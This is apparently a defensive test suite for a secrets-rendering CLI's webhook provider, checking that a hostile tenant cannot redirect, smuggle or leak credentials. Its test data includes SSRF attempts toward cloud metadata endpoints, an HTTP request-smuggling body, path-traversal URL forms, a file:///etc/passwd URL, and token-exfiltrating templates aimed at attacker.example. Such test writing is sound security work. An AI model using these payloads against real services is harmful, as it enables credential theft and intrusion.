// A hostile tenant against the webhook provider in the shared sidecar (`eso-render generate`): each test is
// one attempt built from the documentation (docs/providers/webhook.md, docs/security.md "Webhooks"), run
// through the CLI against a loopback webhook and an attacker server that count every request. A refusal
// must come with zero requests to the forbidden place; an accepted request must reach only the allowed
// destination, as the allowed URL says. Needs `npm run build`.
import { parseAllDocuments } from 'yaml';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { FakeWebhook } from '../servers/webhook/server.js';
import { Attacker, Tenancy, b64, tempRoot, writePlatform, type Platform } from './tenancy-support.js';

const ESO = 'external-secrets.io/v1';
const PAYMENTS_TOKEN = 'wh-payments-5521';
const OTHER_TEAM_TOKEN = 'wh-other-team-9043';
const VALUE = 'pw-Kestrel4Marmot-0913';

let wh: FakeWebhook;
let attacker: Attacker;
const tmp = tempRoot();
const tenancy = new Tenancy();
let p: Platform;
let withPlatformStore: Platform;

beforeAll(async () => {
  wh = await FakeWebhook.start();
  attacker = await Attacker.start();
  const creds = {
    'payments/api-auth/token': PAYMENTS_TOKEN,
    'other-team/api-auth/token': OTHER_TEAM_TOKEN,
  };
  const rules = [{ name: 'pay-self', match: { projects: ['payments'] }, allowStreamStores: true, generators: [{ kind: 'Webhook', name: '*', origin: 'application', methods: ['GET', 'POST'] }] }];
  p = writePlatform(tmp.root, { policy: { rules }, webhook: { allowedURLs: [`${wh.url}/payments/`] } }, creds);
  // The platform's store for team A's area of the service: any key, under /payments/team-a/ only.
  const teamA = { apiVersion: ESO, kind: 'ClusterSecretStore', metadata: { name: 'team-a' }, spec: { provider: { webhook: { url: `${wh.url}/payments/team-a/{{ .remoteRef.key }}` } } } };
  withPlatformStore = writePlatform(
    tmp.root,
    { stores: [teamA], policy: { rules: [{ name: 'team-a', match: { projects: ['payments'] }, stores: [{ kind: 'ClusterSecretStore', name: 'team-a' }] }] }, webhook: { allowedURLs: [`${wh.url}/payments/`] } },
    creds,
  );
});
afterAll(async () => {
  await wh?.close();
  await attacker?.stop();
  tenancy.dispose();
  tmp.dispose();
});
beforeEach(() => {
  wh.reset();
  attacker.seen.length = 0;
  wh.route('GET', '/payments/db', { body: JSON.stringify({ password: VALUE }) });
  wh.route('POST', '/payments/db', { body: JSON.stringify({ password: VALUE }) });
});

const app = () => ({ app: 'pay-api', namespace: 'payments', project: 'payments' });
const docs = (s: string) => parseAllDocuments(s).map((d) => d.toJS() as { kind?: string; data?: Record<string, string> });
const store = (webhook: Record<string, unknown>) => ({
  apiVersion: ESO,
  kind: 'SecretStore',
  metadata: { name: 'wh', namespace: 'payments' },
  spec: {
    provider: {
      webhook: {
        url: `${wh.url}/payments/{{ .remoteRef.key }}`,
        result: { jsonPath: '$.password' },
        secrets: [{ name: 'auth', secretRef: { name: 'api-auth' } }],
        ...webhook,
      },
    },
  },
});
const reads = (key = 'db') => ({
  apiVersion: ESO,
  kind: 'ExternalSecret',
  metadata: { name: 'db', namespace: 'payments' },
  spec: { secretStoreRef: { kind: 'SecretStore', name: 'wh' }, target: { name: 'db' }, data: [{ secretKey: 'password', remoteRef: { key } }] },
});
const none = () => {
  expect(wh.requests).toEqual([]);
  expect(attacker.seen).toEqual([]);
};
const noSecretsIn = (text: string) => {
  for (const s of [PAYMENTS_TOKEN, OTHER_TEAM_TOKEN, VALUE]) expect(text).not.toContain(s);
};

describe('hostile tenant: request headers cannot change where a request goes', () => {
  const host = () => new URL(wh.url).host;

  it('a Host header does not re-address the request (Go ignores it; a shared ingress would route by it)', async () => {
    const r = await tenancy.run([store({ headers: { Host: 'metadata.google.internal' } }), reads()], p, app());
    // Sent to the allowed host under its own name, as ESO's Go client does (it never writes Header["Host"]).
    expect(r.code, r.stderr).toBe(0);
    expect(wh.requests).toHaveLength(1);
    expect(wh.requests[0]!.headers.host).toBe(host());
    expect(attacker.seen).toEqual([]);
  });

  it('a lower-case host header neither', async () => {
    const r = await tenancy.run([store({ headers: { host: 'other-team.internal' } }), reads()], p, app());
    expect(r.code, r.stderr).toBe(0);
    expect(wh.requests.map((q) => q.headers.host)).toEqual([host()]);
  });

  it('Transfer-Encoding and Content-Length from the manifest do not frame the request (no smuggling)', async () => {
    const smuggled = '0\r\n\r\nGET /other-team/db HTTP/1.1\r\nHost: x\r\n\r\n';
    const r = await tenancy.run([store({ method: 'POST', headers: { 'Transfer-Encoding': 'chunked', 'Content-Length': '5' }, body: smuggled }), reads()], p, app());
    expect(wh.count(undefined, '/other-team/db')).toBe(0);
    // Node's server answers 400 to a request framed by both headers; Go's client sends neither from the manifest.
    expect(r.code, r.stderr).toBe(0);
    {
      expect(wh.requests).toHaveLength(1);
      expect(wh.requests[0]!.body).toBe(smuggled);
      expect(wh.requests[0]!.headers['content-length']).toBe(String(Buffer.byteLength(smuggled)));
      expect(wh.requests[0]!.headers['transfer-encoding']).toBeUndefined();
    }
  });
});

describe('hostile tenant: no credential or fetched value in an error', () => {
  it('a result.jsonPath that templates the token and then fails does not print the token', async () => {
    const r = await tenancy.run([store({ result: { jsonPath: '$.{{ .auth.token }}' } }), reads()], p, app());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('failed to get response path $.REDACTED (rendered from secrets, not shown): ');
    noSecretsIn(r.stderr);
    noSecretsIn(r.stdout);
  });

  it('a result.jsonPath made of the token with a bad character does not print it either', async () => {
    const r = await tenancy.run([store({ result: { jsonPath: '$[?({{ .auth.token }})]' } }), reads()], p, app());
    expect(r.code).toBe(1);
    noSecretsIn(r.stderr);
  });

  for (const field of ['url', 'body', 'header']) {
    it(`{{ fail .auth.token }} in the ${field} does not print the token`, async () => {
      const t = '{{ fail .auth.token }}';
      const spec = field === 'url' ? { url: `${wh.url}/payments/${t}` } : field === 'body' ? { method: 'POST', body: t } : { headers: { 'X-A': t } };
      const r = await tenancy.run([store(spec), reads()], p, app());
      expect(r.code).toBe(1);
      noSecretsIn(r.stderr);
      none();
    });
  }

  for (const t of [
    '{{ required .auth.token nil }}',
    '{{ .auth.token | fromJson | toString }}',
    '{{ .auth.token | fromYaml | toString }}',
    '{{ .auth.token | b64dec | fromJson }}',
    '{{ toDate .auth.token "x" }}',
    '{{ .auth.token | atoi | div 0 }}',
    '{{ template .auth.token }}',
    '{{ index .auth .auth.token | len }}',
    '{{ .auth.token | semver }}',
    '{{ regexMatch .auth.token "x" }}',
    '{{ .auth.token | pkcs12Decode "" }}',
    '{{ .auth.token | filterPEM "x" }}',
    '{{ .auth.token | jwkPublicKeyPem }}',
  ]) {
    it(`a failing function over the token in a header (${t}) does not print the token`, async () => {
      const r = await tenancy.run([store({ headers: { 'X-A': t } }), reads()], p, app());
      noSecretsIn(r.stderr);
      noSecretsIn(r.stdout);
    });
  }

  it('a refused URL built from the token shows no token', async () => {
    const r = await tenancy.run([store({ url: `${attacker.url}/{{ .auth.token }}/x` }), reads()], p, app());
    expect(r.code).toBe(1);
    noSecretsIn(r.stderr);
    none();
  });

  it('a response that is not JSON, or a path that misses, quotes nothing of the body', async () => {
    wh.route('GET', '/payments/db', { body: `{"password": ${VALUE}}` });
    const r = await tenancy.run([store({}), reads()], p, app());
    expect(r.code).toBe(1);
    noSecretsIn(r.stderr);
    wh.route('GET', '/payments/db', { body: JSON.stringify({ [VALUE]: 1 }) });
    const r2 = await tenancy.run([store({ result: { jsonPath: '$.password' } }), reads()], p, app());
    expect(r2.code).toBe(1);
    noSecretsIn(r2.stderr);
  });
});

describe("hostile tenant: another namespace's credentials", () => {
  it("a SecretStore's secretRef.namespace does not reach another namespace", async () => {
    wh.route('GET', '/payments/db', (q) => ({ body: JSON.stringify({ password: String(q.headers['x-token']) }) }));
    const s = store({ headers: { 'X-Token': '{{ .auth.token }}' }, secrets: [{ name: 'auth', secretRef: { name: 'api-auth', namespace: 'other-team' } }] });
    const r = await tenancy.run([s, reads()], p, app());
    const out = r.stdout + r.stderr;
    expect(out).not.toContain(b64ish(OTHER_TEAM_TOKEN));
    expect(out).not.toContain(OTHER_TEAM_TOKEN);
    for (const q of wh.requests) expect(String(q.headers['x-token'])).not.toContain(OTHER_TEAM_TOKEN);
  });

  it("a Webhook generator's secretRef.namespace does not reach another namespace", async () => {
    wh.route('POST', '/payments/gen', (q) => ({ body: JSON.stringify({ got: String(q.headers['x-token']) }) }));
    const gen = {
      apiVersion: 'generators.external-secrets.io/v1alpha1',
      kind: 'Webhook',
      metadata: { name: 'g', namespace: 'payments' },
      spec: { url: `${wh.url}/payments/gen`, method: 'POST', headers: { 'X-Token': '{{ .auth.token }}' }, secrets: [{ name: 'auth', secretRef: { name: 'api-auth', namespace: 'other-team' } }] },
    };
    const es = {
      apiVersion: ESO,
      kind: 'ExternalSecret',
      metadata: { name: 'gen', namespace: 'payments' },
      spec: { dataFrom: [{ sourceRef: { generatorRef: { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'Webhook', name: 'g' } } }] },
    };
    const r = await tenancy.run([gen, es], p, app());
    const out = r.stdout + r.stderr;
    expect(out).not.toContain(b64ish(OTHER_TEAM_TOKEN));
    for (const q of wh.requests) expect(String(q.headers['x-token'])).not.toContain(OTHER_TEAM_TOKEN);
  });
});

describe('hostile tenant: URL forms', () => {
  for (const [what, url] of [
    ['a backslash', 'WH/payments\\..\\..\\other-team/db'],
    ['percent-encoded dots', 'WH/payments/%2e%2e/other-team/db'],
    ['mixed-case percent dots', 'WH/payments/%2E./other-team/db'],
    ['a tab inside ..', 'WH/payments/.\t./other-team/db'],
    ['an IPv6 loopback', 'http://[::1]:PORT/payments/db'],
    ['userinfo before the allowed host', 'http://WHHOST@127.0.0.2:PORT/payments/db'],
    ['a different port', 'http://127.0.0.1:1/payments/db'],
    ['the 0.0.0.0 address', 'http://0.0.0.0:PORT/payments/db'],
  ] as const) {
    it(`${what}: refused, zero requests`, async () => {
      const port = new URL(wh.url).port;
      const u = url.replace('WHHOST', new URL(wh.url).host).replace('PORT', port).replace('WH', wh.url);
      const r = await tenancy.run([store({ url: u }), reads()], p, app());
      expect(r.code, r.stderr).toBe(1);
      expect(wh.count(undefined, '/other-team/db')).toBe(0);
      none();
    });
  }

  it('a redirect from the allowed host to the attacker is not followed', async () => {
    wh.route('GET', '/payments/db', { status: 302, headers: { location: `${attacker.url}/latest/meta-data/` } });
    const r = await tenancy.run([store({}), reads()], p, app());
    expect(r.code).toBe(1);
    expect(attacker.seen).toEqual([]);
    expect(wh.requests).toHaveLength(1);
  });
});

describe('hostile tenant: a Secret only from its own read', () => {
  it('data without jsonPath is the body; the output holds it once, under its own key', async () => {
    const r = await tenancy.run([store({ result: {} }), reads()], p, app());
    expect(r.code, r.stderr).toBe(0);
    const secrets = docs(r.stdout).filter((d) => d.kind === 'Secret');
    expect(secrets).toHaveLength(1);
    expect(JSON.parse(b64(secrets[0]!.data?.['password']))).toEqual({ password: VALUE });
    expect(r.stderr).not.toContain(VALUE);
  });
});

const b64ish = (s: string) => Buffer.from(s).toString('base64');

describe('hostile tenant: the rendered URL in messages', () => {
  it('a URL rendered from the token whose scheme is the token: the message does not name it', async () => {
    const r = await tenancy.run([store({ url: '{{ .auth.token }}://x/y' }), reads()], p, app());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("the rendered URL's scheme (rendered from secrets, not shown) is not http or https");
    noSecretsIn(r.stderr);
    none();
  });

  it('a file: URL from the manifest is refused by its scheme, named, zero requests', async () => {
    const r = await tenancy.run([store({ url: 'file:///etc/passwd' }), reads()], p, app());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("spec.provider.webhook.url: the rendered URL's scheme is file, not http or https");
    none();
  });

  it('a URL that is only the token: not quoted', async () => {
    const r = await tenancy.run([store({ url: '{{ .auth.token }}:' }), reads()], p, app());
    expect(r.code).toBe(1);
    noSecretsIn(r.stderr);
    none();
  });

  it('a host made of the token under no allowlist entry: shown REDACTED', async () => {
    const r = await tenancy.run([store({ url: 'http://{{ .auth.token }}.attacker.example/x' }), reads()], p, app());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('http://redacted.attacker.example/x');
    noSecretsIn(r.stderr);
    none();
  });
});

describe('hostile tenant: memory', () => {
  it('extracts of JSON objects with millions of tiny members: a clean failure within seconds', async () => {
    const members: string[] = [];
    for (let i = 0; members.length < 1_200_000; i++) members.push(`"k${i}":0`);
    const body = Buffer.from(`{${members.join(',')}}`);
    const keys = Array.from({ length: 16 }, (_, i) => `many-${i}`);
    for (const k of keys) wh.route('GET', `/payments/${k}`, { body });
    const es = {
      apiVersion: ESO,
      kind: 'ExternalSecret',
      metadata: { name: 'many', namespace: 'payments' },
      spec: { secretStoreRef: { kind: 'SecretStore', name: 'wh' }, dataFrom: keys.map((k) => ({ extract: { key: k } })) },
    };
    const started = Date.now();
    const r = await tenancy.run([store({ result: {} }), es], p, app());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('the values read in this run exceed 67108864 bytes in total');
    expect(docs(r.stdout).filter((d) => d.kind === 'Secret')).toEqual([]);
    // In-flight reads are not parsed, nor sent again, once the bound is passed: one request per key at most
    // (a retry the client scheduled before the bound, after a timeout on a loaded machine, sends nothing).
    expect(wh.requests.length).toBeLessThanOrEqual(keys.length);
    expect(Date.now() - started).toBeLessThan(30_000);
  }, 60_000);

  it('large bodies for many distinct keys: a clean failure within seconds, not a heap exhaustion', async () => {
    const big = Buffer.alloc(3 * 1024 * 1024, 0x61);
    const keys = Array.from({ length: 40 }, (_, i) => `big-${i}`);
    for (const k of keys) wh.route('GET', `/payments/${k}`, { body: big });
    const es = {
      apiVersion: ESO,
      kind: 'ExternalSecret',
      metadata: { name: 'big', namespace: 'payments' },
      spec: { secretStoreRef: { kind: 'SecretStore', name: 'wh' }, data: keys.map((k) => ({ secretKey: k, remoteRef: { key: k } })) },
    };
    const started = Date.now();
    const r = await tenancy.run([store({ result: {} }), es], p, app());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('the values read in this run exceed 67108864 bytes in total');
    expect(r.stderr).not.toContain('heap out of memory');
    expect(docs(r.stdout).filter((d) => d.kind === 'Secret')).toEqual([]);
    // Reads queued behind the one that crossed the bound are not sent.
    expect(wh.requests.length).toBeLessThan(keys.length);
    expect(Date.now() - started).toBeLessThan(30_000);
  });
});

describe("hostile tenant: a key that climbs out of the platform store's path", () => {
  const es = (key: string) => ({
    apiVersion: ESO,
    kind: 'ExternalSecret',
    metadata: { name: 'climb', namespace: 'payments' },
    spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'team-a' }, data: [{ secretKey: 'v', remoteRef: { key } }] },
  });

  it('a plain key reads under the store\'s path', async () => {
    wh.route('GET', '/payments/team-a/db', { body: 'team-a-value' });
    const r = await tenancy.run([es('db')], withPlatformStore, app());
    expect(r.code, r.stderr).toBe(0);
    expect(wh.requests.map((q) => q.path)).toEqual(['/payments/team-a/db']);
  });

  for (const key of ['..', '.']) {
    it(`key ${JSON.stringify(key)}: refused, zero requests`, async () => {
      wh.route('GET', '/payments/', { body: 'listing of every team' });
      const r = await tenancy.run([es(key)], withPlatformStore, app());
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('spec.provider.webhook.url: the rendered URL has a . or .. path segment');
      none();
    });
  }

  it('key "%2e%2e" stays a literal key under the store\'s path (QueryEscaped to %252e%252e)', async () => {
    const r = await tenancy.run([es('%2e%2e')], withPlatformStore, app());
    expect(r.code).toBe(1);
    expect(wh.requests.map((q) => q.target)).toEqual(['/payments/team-a/%252e%252e']);
  });
});

describe("hostile tenant: another team's allowed webhook", () => {
  // Both teams' backends are allowed destinations; each team's rule names its own.
  const twoTeams = () =>
    writePlatform(tmp.root, {
      policy: {
        rules: [
          { name: 'pay-self', match: { projects: ['payments'] }, allowStreamStores: true, webhookURLs: [`${wh.url}/payments/`], generators: [{ kind: 'Webhook', name: '*', origin: 'application', methods: ['GET', 'POST'] }] },
          { name: 'other-self', match: { projects: ['other-team'] }, allowStreamStores: true, webhookURLs: [`${wh.url}/other-team/`] },
        ],
      },
      webhook: { allowedURLs: [`${wh.url}/payments/`, `${wh.url}/other-team/`] },
    }, { 'payments/api-auth/token': PAYMENTS_TOKEN });

  it("a store of payments aimed at other-team's webhook: refused by the rule's webhookURLs, zero requests", async () => {
    wh.route('GET', '/other-team/db', { body: JSON.stringify({ password: 'other-team-secret' }) });
    const r = await tenancy.run([store({ url: `${wh.url}/other-team/{{ .remoteRef.key }}`, secrets: [] }), reads()], twoTeams(), app());
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/policy: webhook URL http:\/\/127\.0\.0\.1:\d+\/other-team\/db is not under the webhookURLs of rule pay-self/);
    none();
  });

  it('a Webhook generator of payments aimed there: refused too', async () => {
    const gen = { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'Webhook', metadata: { name: 'g', namespace: 'payments' }, spec: { url: `${wh.url}/other-team/issue`, method: 'POST', result: {} } };
    const es = { apiVersion: ESO, kind: 'ExternalSecret', metadata: { name: 'gen', namespace: 'payments' }, spec: { dataFrom: [{ sourceRef: { generatorRef: { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'Webhook', name: 'g' } } }] } };
    const r = await tenancy.run([gen, es], twoTeams(), app());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('is not under the webhookURLs of rule pay-self');
    none();
  });

  it('its own prefix still reads', async () => {
    const r = await tenancy.run([store({}), reads()], twoTeams(), app());
    expect(r.code, r.stderr).toBe(0);
    expect(wh.requests.map((q) => q.path)).toEqual(['/payments/db']);
  });
});

describe("hostile tenant: a key that breaks out of a platform store's JSON body", () => {
  // The platform's store for team A: POSTs {"team": "team-a", "key": …}. remoteRef is raw in a body (as in
  // ESO), so the platform must encode it: with toJson the tenant's quote stays inside the string.
  const platformWith = (body: string) =>
    writePlatform(tmp.root, {
      stores: [{ apiVersion: ESO, kind: 'ClusterSecretStore', metadata: { name: 'lookup' }, spec: { provider: { webhook: { url: `${wh.url}/payments/lookup`, method: 'POST', body, result: { jsonPath: '$.value' } } } } }],
      policy: { rules: [{ name: 'team-a', match: { projects: ['payments'] }, stores: [{ kind: 'ClusterSecretStore', name: 'lookup', keys: ['db*'] }] }] },
      webhook: { allowedURLs: [`${wh.url}/payments/`] },
    });
  const es = (key: string) => ({ apiVersion: ESO, kind: 'ExternalSecret', metadata: { name: 'l', namespace: 'payments' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'lookup' }, data: [{ secretKey: 'v', remoteRef: { key } }] } });
  const hostile = 'db", "team": "other-team';

  it('with {{ .remoteRef.key | toJson }} the key stays one JSON string: the team is the platform\'s', async () => {
    wh.route('POST', '/payments/lookup', (q) => ({ body: JSON.stringify({ value: (JSON.parse(q.body) as { team: string }).team }) }));
    const r = await tenancy.run([es(hostile)], platformWith('{"team": "team-a", "key": {{ .remoteRef.key | toJson }}}'), app());
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(wh.requests[0]!.body)).toEqual({ team: 'team-a', key: hostile });
    expect(b64(docs(r.stdout).find((d) => d.kind === 'Secret')!.data?.['v'])).toBe('team-a');
  });
});

describe("hostile tenant: a store placed in another team's namespace", () => {
  it("a SecretStore in other-team read from payments' ExternalSecret: no other-team token sent or shown", async () => {
    wh.route('GET', '/payments/db', (q) => ({ body: JSON.stringify({ password: String(q.headers['x-token']) }) }));
    const s = store({ headers: { 'X-Token': '{{ .auth.token }}' } });
    (s.metadata as { namespace: string }).namespace = 'other-team';
    const esSame = { ...reads(), metadata: { name: 'db', namespace: 'other-team' } };
    for (const manifests of [[s, reads()], [s, esSame]]) {
      wh.reset();
      wh.route('GET', '/payments/db', (q) => ({ body: JSON.stringify({ password: String(q.headers['x-token']) }) }));
      const r = await tenancy.run(manifests, p, app());
      expect(r.code).toBe(1);
      expect(r.stdout + r.stderr).not.toContain(OTHER_TEAM_TOKEN);
      expect(r.stdout).not.toContain(b64ish(OTHER_TEAM_TOKEN));
      for (const q of wh.requests) expect(String(q.headers['x-token'])).not.toBe(OTHER_TEAM_TOKEN);
    }
  });
});

describe('hostile tenant: a connection the answer takes over', () => {
  it('Connection: Upgrade and a 101 answer: a clean failure well before the deadline, no Secret', async () => {
    wh.route('GET', '/payments/db', { status: 101, headers: { connection: 'Upgrade', upgrade: 'websocket' } });
    const started = Date.now();
    const r = await tenancy.run([store({ headers: { Connection: 'Upgrade', Upgrade: 'websocket' } }), reads()], p, app());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('SecretStore/payments/wh: endpoint gave error 101 Switching Protocols');
    expect(docs(r.stdout).filter((d) => d.kind === 'Secret')).toEqual([]);
    expect(Date.now() - started).toBeLessThan(20_000);
  }, 60_000);
});

describe('hostile tenant: an application\'s own webhook store reads, it does not write', () => {
  for (const method of ['DELETE', 'PUT', 'PATCH', 'delete']) {
    it(`method ${method} on the app's own store: refused by field before any request`, async () => {
      wh.route(method.toUpperCase(), '/payments/db', { body: JSON.stringify({ password: VALUE }) });
      const r = await tenancy.run([store({ method }), reads()], p, app());
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`spec.provider.webhook.method ${method.toUpperCase()} refused: an application's own webhook store may use GET, HEAD, POST only`);
      expect(docs(r.stdout).filter((d) => d.kind === 'Secret')).toEqual([]);
      none();
      noSecretsIn(r.stderr);
    });
  }

  it('GET and POST still read', async () => {
    for (const method of ['GET', 'POST']) {
      wh.reset();
      wh.route(method, '/payments/db', { body: JSON.stringify({ password: VALUE }) });
      const r = await tenancy.run([store({ method }), reads()], p, app());
      expect(r.code, r.stderr).toBe(0);
      expect(wh.requests.map((q) => q.method)).toEqual([method]);
    }
  });
});
